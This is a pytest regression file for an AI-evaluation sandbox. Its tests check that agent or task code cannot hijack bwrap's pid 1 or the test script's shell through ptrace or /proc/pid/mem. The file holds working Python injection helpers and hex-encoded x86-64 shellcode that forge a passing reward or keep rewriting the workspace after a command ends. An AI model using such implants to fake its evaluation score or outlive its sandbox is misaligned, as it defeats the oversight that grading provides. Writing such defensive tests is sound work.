"""Attacks on the sandbox's pid 1 (issue 34, S1 and S2): bwrap's init outlives the
command, runs as the same uid and reports its exit status, so code that takes it over
(ptrace, or a write to ``/proc/1/mem`` at the instruction it will run next) forges what
the host reads: the verifier's reward, later commands' workspace.

The implants are x86-64 machine code (two small loops, the assembly beside them); the
tests that inject them run on x86-64 only. The probe of every way to pid 1 runs anywhere.
"""

from __future__ import annotations

import asyncio
import gc
import os
import platform
import shutil
import uuid
from pathlib import Path

import pytest
from docker_helpers import (  # noqa: F401 - fixtures
    _docker_base_image,
    _dockerd,
    base_root,
    docker_base,
    docker_host,
)
from sandbox_helpers import needs_bwrap, run

from stayer.errors import BudgetReached
from stayer.eval.task import load_task
from stayer.eval.verify import verify
from stayer.sandbox.base import Sandbox
from stayer.sandbox.bwrap import BwrapSandbox

pytestmark = needs_bwrap
x86_64 = pytest.mark.skipif(platform.machine() != "x86_64", reason="x86-64 implants")
ROOT = Path(__file__).resolve().parents[1]

# loop: wait4(-1, 0, 0, 0) until -ECHILD; open("/logs/verifier/reward.txt",
# O_WRONLY|O_CREAT|O_TRUNC, 0644); write(fd, "1\n", 2); exit_group(0). An init that outlives
# the test script and writes a passing reward after it, then says all went well.
REWARD_FORGER = bytes.fromhex(
    "b83d00000048c7c7ffffffff31f631d24531d20f054883f8f675e5b802000000488d3d2b000000be4102"
    "0000baa40100000f054889c7b801000000488d352a000000ba020000000f05b8e700000031ff0f052f6c"
    "6f67732f76657269666965722f7265776172642e74787400310a"
)
# loop forever: open("/app/pwned", O_WRONLY|O_CREAT|O_TRUNC, 0644); write "1\n"; close;
# nanosleep 20 ms. Whatever the workspace should say, this says otherwise while it lives.
APP_WRITER = bytes.fromhex(
    "b802000000488d3d51000000be41020000baa40100000f054989c44889c7b801000000488d353e000000"
    "ba020000000f05b8030000004c89e70f05b823000000488d3d0600000031f60f05ebb300000000000000"
    "00002d3101000000002f6170702f70776e656400310a"
)

# Python run inside the sandbox: implant(code, how) puts ``code`` where pid 1 runs next,
# by ptrace (at once: the wait pid 1 sits in is interrupted, not restarted) or through
# /proc/1/mem (once that wait returns); it says "implanted" or why not.
IMPLANT = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
         "eflags rsp ss fs_base gs_base ds es fs gs")
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES.split()]

def by_ptrace(code):
    pid = by_pid
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return "ptrace: " + os.strerror(ctypes.get_errno())
    os.waitpid(pid, 0x40000000)  # __WALL: stopped
    regs = Regs()
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    for i in range(0, len(code), 8):
        word = int.from_bytes(code[i:i + 8].ljust(8, b"\x90"), "little")
        libc.ptrace(4, pid, ctypes.c_void_p(regs.rip + i), ctypes.c_void_p(word))  # POKETEXT
    regs.orig_rax = 2**64 - 1  # no restart of the interrupted wait
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return "implanted"

def by_mem(code):
    try:
        pc = int(open(f"/proc/{by_pid}/syscall").read().split()[-1], 16)
        fd = os.open(f"/proc/{by_pid}/mem", os.O_RDWR)
        os.pwrite(fd, code, pc)
        os.close(fd)
    except OSError as e:
        return "mem: " + e.strerror
    return "implanted"

def implant(code, how, pid=1):
    global by_pid
    by_pid = pid
    return (by_ptrace if how == "ptrace" else by_mem)(code)

def test_script():
    # the nearest ancestor running /tests/test.sh
    pid = os.getppid()
    while pid > 1:
        if b"/tests/test.sh" in open(f"/proc/{pid}/cmdline", "rb").read():
            return pid
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    return 1
"""

# Every way to pid 1 that a process of the same uid has: each must fail.
PROBE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
iov = Iov(ctypes.cast(buf, ctypes.c_void_p), 8)
vm = {"x86_64": (310, 311), "aarch64": (270, 271)}[os.uname().machine]
reached = []
for pid in (1, 1 + 2**32):  # the kernel reads a pid as 32 bits
    if libc.ptrace(16, pid, None, None) == 0:
        reached.append(f"ptrace {pid}")
    for nr in vm:
        if libc.syscall(nr, pid, ctypes.byref(iov), 1, ctypes.byref(iov), 1, 0) >= 0:
            reached.append(f"process_vm {nr} {pid}")
    if (pidfd := libc.syscall(434, pid, 0)) >= 0:
        reached.append(f"pidfd_open {pid}")
own = os.pidfd_open(os.getpid())
if libc.syscall(438, own, 0, 0) >= 0:
    reached.append("pidfd_getfd")
for path in ("mem", "task/1/mem"):
    try:
        os.close(os.open(f"/proc/1/{path}", os.O_RDWR))
        reached.append(f"/proc/1/{path}")
    except OSError:
        pass
for path in ("fd", "task/1/fd"):
    try:
        if os.listdir(f"/proc/1/{path}"):
            reached.append(f"/proc/1/{path}")
    except OSError:
        pass
print("reached:", reached)
"""


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    return d


@pytest.mark.parametrize("kind", ["bwrap", "bwrap-ahead", "bwrap-persistent"])
def test_nothing_in_the_sandbox_reaches_pid_1(ws: Path, kind: str) -> None:
    sb = BwrapSandbox(ws, persistent=kind == "bwrap-persistent", ahead=kind != "bwrap")
    for _ in range(2):  # the second: in the sandbox started ahead, or kept
        r = run(sb.exec("python3 -I - ", stdin=PROBE.encode(), timeout=60))
        assert r.stdout == "reached: []\n", r


def forging_task(tmp_path: Path, how: str, target: str = "1") -> tuple[Path, Path]:
    """examples/fix-median, and a workspace whose stats.py is wrong and, once imported by
    the tests, implants the reward forger in ``target`` (Python: a pid)."""
    task = tmp_path / "fix-median"
    shutil.copytree(ROOT / "examples" / "fix-median", task)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "stats.py").write_text(
        IMPLANT
        + "import sys\n"
        + f"print(implant(bytes.fromhex({REWARD_FORGER.hex()!r}), {how!r}, {target}), file=sys.stderr)\n"
        + "def median(xs): return 0\ndef mean(xs): return 0\ndef spread(xs): return 0\n"
    )
    return task, ws


@x86_64
@pytest.mark.parametrize("how", ["ptrace", "mem"])
def test_code_under_test_cannot_forge_its_reward_through_pid_1(tmp_path: Path, how: str) -> None:
    """S1: the verifier of the default sandbox, tests failing, pid 1 taken over to write
    a reward of 1 after the test script and exit 0: before the fix, ``passed``."""
    task, ws = forging_task(tmp_path, how)
    verdict = run(verify(load_task(task), BwrapSandbox(ws)))
    assert verdict.outcome == "failed" and verdict.reward == 0, verdict.to_dict()
    out = verdict.to_dict()["output_tail"]
    assert f"{how}: " in out and "failures: ['odd sorted'," in out, out  # refused; tests ran


@x86_64
@pytest.mark.parametrize("how", ["ptrace", "mem"])
@pytest.mark.parametrize("kind", ["bwrap", pytest.param("docker", marks=pytest.mark.slow)])
def test_code_under_test_cannot_forge_its_reward_through_the_test_script(
    tmp_path: Path, how: str, kind: str, request: pytest.FixtureRequest
) -> None:
    """The same forger, implanted in the test script's own bash (the code's ancestor, of
    its uid; in Docker, the container's pid 1): it writes 1 and exits 0 once its last
    child is gone. Before the test script ran in a bash of its own: ``passed``."""
    task, ws = forging_task(tmp_path, how, "test_script()")
    if kind == "docker":
        from stayer.sandbox.docker import DockerSandbox

        sandbox: Sandbox = DockerSandbox(ws, image=request.getfixturevalue("docker_base"))
    else:
        sandbox = BwrapSandbox(ws)
    verdict = run(verify(load_task(task), sandbox))
    assert verdict.outcome == "failed" and verdict.reward == 0, verdict.to_dict()
    out = verdict.to_dict()["output_tail"]
    assert f"{how}: " in out and "failures: ['odd sorted'," in out, out


def test_the_task_still_judges_an_honest_fix(tmp_path: Path) -> None:
    """What pid 1 keeps covered leaves what a task reads of it (its ancestors' /proc/<pid>/stat,
    as fix-median's guard does): the reference solution still passes."""
    task, ws = forging_task(tmp_path, "mem")
    shutil.copy(task / "environment" / "stats.py", ws / "stats.py")
    fix = run(
        BwrapSandbox(ws).exec(
            "bash /dev/stdin", stdin=(task / "solution" / "solve.sh").read_bytes()
        )
    )
    assert fix.exit_code == 0, fix
    verdict = run(verify(load_task(task), BwrapSandbox(ws)))
    assert verdict.outcome == "passed", verdict.to_dict()


def takeover_task(tmp_path: Path) -> Path:
    """A task whose agent (the simulated model runs solve.sh) implants APP_WRITER in the
    kept sandbox's pid 1, and whose tests pass only if /app/pwned comes back after they
    removed it: only something of the agent's still running during the tests writes it."""
    task = tmp_path / "task"
    for d in ("environment", "solution", "tests"):
        (task / d).mkdir(parents=True)
    (task / "instruction.md").write_text("Do nothing.\n")
    (task / "task.toml").write_text("[agent]\ntimeout_sec = 120\n")
    (task / "environment" / "implant.py").write_text(
        IMPLANT + f"\nprint(implant(bytes.fromhex({APP_WRITER.hex()!r}), 'ptrace'))\n"
    )
    (task / "solution" / "solve.sh").write_text(
        "python3 -I /app/implant.py; rm -f /app/pwned; sleep 1; "
        "cat /app/pwned 2>/dev/null && echo the next command sees the implant\n"
    )
    (task / "tests" / "test.sh").write_text(
        "rm -f /app/pwned; sleep 1\n"
        "if [ -e /app/pwned ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"
    )
    return task


@x86_64
def test_a_kept_sandboxs_pid_1_cannot_be_taken_over(ws: Path) -> None:
    """S2: an implant in the kept sandbox's pid 1 outlived its command and rewrote /app
    while later commands ran."""
    sb = BwrapSandbox(ws, persistent=True)
    code = IMPLANT + f"\nprint(implant(bytes.fromhex({APP_WRITER.hex()!r}), 'ptrace'))\n"
    r = run(sb.exec("python3 -I -", stdin=code.encode(), timeout=60))
    assert "implanted" not in r.stdout, r
    r = run(sb.exec("rm -f /app/pwned; sleep 1; ls /app", timeout=60))
    assert r.stdout == "", r


@pytest.fixture
def stayer_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    monkeypatch.setenv("STAYER_HOME", str(home))
    monkeypatch.delenv("STAYER_DB", raising=False)
    return home


def bwrap_children() -> list[int]:
    """This process's children that are bwrap: a sandbox kept, or started ahead."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        fields = stat.rpartition(")")[2].split()
        if int(fields[1]) == os.getpid() and fields[0] != "Z" and b"bwrap" in cmdline:
            found.append(int(entry))
    return found


@x86_64
@pytest.mark.parametrize("kind", ["bwrap", "bwrap-persistent"])
def test_the_agents_sandbox_is_gone_before_the_verifier_starts(
    tmp_path: Path, stayer_home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """S2, end to end: the agent's sandbox (with whatever it left in it) was alive while
    the verifier ran; an implant there rewrote /app, and a reward of 0 became 1."""
    import stayer.run as run_module
    from stayer.run import RunSettings, execute, prepare

    seen: list[list[int]] = []

    async def verify_watched(task, sandbox):  # type: ignore[no-untyped-def]
        seen.append(bwrap_children())
        return await verify(task, sandbox)

    monkeypatch.setattr(run_module, "verify", verify_watched)
    task = takeover_task(tmp_path)
    prepared = prepare(
        RunSettings(str(task), "sim:claude-sonnet-4-5", run_id=uuid.uuid4().hex[:8], sandbox=kind)
    )
    doc = asyncio.run(execute(prepared))
    assert seen == [[]], seen  # nothing of the agent's sandbox is left when the tests start
    assert doc["status"] != "succeeded" and doc["verifier"]["outcome"] == "failed", doc


class PauseAt:
    """The simulated provider; the run pauses at its cap (BudgetReached) at call ``at``."""

    def __init__(self, inner, at: int) -> None:  # type: ignore[no-untyped-def]
        self.inner, self.at, self.calls = inner, at, 0
        self.spec, self.provider, self.model_id = inner.spec, inner.provider, inner.model_id

    def account(self, request):  # type: ignore[no-untyped-def]
        return self.inner.account(request)

    async def complete(self, request):  # type: ignore[no-untyped-def]
        self.calls += 1
        if self.calls == self.at:
            raise BudgetReached("the cap")
        return await self.inner.complete(request)


@pytest.mark.parametrize("kind", ["bwrap", "bwrap-persistent"])
def test_a_run_paused_at_its_cap_leaves_no_sandbox_running(
    tmp_path: Path, stayer_home: Path, kind: str
) -> None:
    """The waiting sandbox of a paused run stayed alive until the garbage collector freed
    it (up to 3 at once, for about a minute)."""
    from stayer.run import RunSettings, execute, prepare

    task = takeover_task(tmp_path)
    (task / "solution" / "solve.sh").write_text("echo one command\n")
    prepared = prepare(
        RunSettings(str(task), "sim:claude-sonnet-4-5", run_id=uuid.uuid4().hex[:8], sandbox=kind)
    )
    prepared.model = PauseAt(prepared.model, at=2)
    gc.disable()  # as between two collections: only what the run itself released is gone
    try:
        with pytest.raises(BudgetReached):
            asyncio.run(execute(prepared))
        assert bwrap_children() == []
    finally:
        gc.enable()


@pytest.mark.parametrize("kind", ["bwrap", "bwrap-persistent"])
def test_a_probes_sandbox_is_gone_before_its_tests_start(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """``stayer tasks check`` runs each probe in the agent's sandbox, then the tests: that
    sandbox (kept, or the next one started ahead) was still running during them."""
    import stayer.eval.checks as checks
    from stayer.eval.probes import Probe

    seen: list[list[int]] = []

    async def verify_watched(task, sandbox):  # type: ignore[no-untyped-def]
        seen.append(bwrap_children())
        return await verify(task, sandbox)

    monkeypatch.setattr(checks, "verify", verify_watched)
    task = load_task(takeover_task(tmp_path))
    probe = Probe("noop", "does nothing", "echo probed\n")
    verdict = run(checks.run_probe(task, probe, tmp_path / "work", kind))
    assert seen == [[]], seen
    assert verdict.outcome == "failed", verdict.to_dict()
